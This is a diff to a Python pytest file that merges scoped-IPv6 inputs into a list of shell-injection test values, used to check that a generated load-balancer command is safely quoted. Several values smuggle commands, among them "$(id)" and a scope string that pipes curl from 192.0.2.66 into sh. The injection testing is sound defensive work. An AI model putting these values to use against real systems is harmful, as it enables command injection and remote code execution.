@@ -18,8 +18,8 @@ from topology_controller.report import view
 
 from . import worlds
 
-EVIL = ["x'; touch /tmp/x; echo '", "$(id)", "`id`", "a b", "\\'", 'a"b', "*", "~root", "-x", "a\\"]
 SCOPES = ["fe80::1%;curl 192.0.2.66|sh;#", "fe80::9%$(id)", "fe80::1%eth0", "[fe80::1%eth0]"]
+EVIL = ["x'; touch /tmp/x; echo '", "$(id)", "`id`", "a b", "\\'", 'a"b', "*", "~root", "-x", "a\\", *SCOPES]
 
 
 def pasted(text: str) -> list[str]:
@@ -93,7 +93,7 @@ def test_an_address_with_a_scope_is_no_backend_and_no_voter(evil: str) -> None:
     assert "no IP address" in voters.why
 
 
-@pytest.mark.parametrize("evil", [*EVIL, *SCOPES])
+@pytest.mark.parametrize("evil", EVIL)
 def test_the_command_that_confirms_backends(evil: str) -> None:
     node = worlds.node(addresses=(evil,))
     words = pasted(load_balancer.compare([node], None).command)
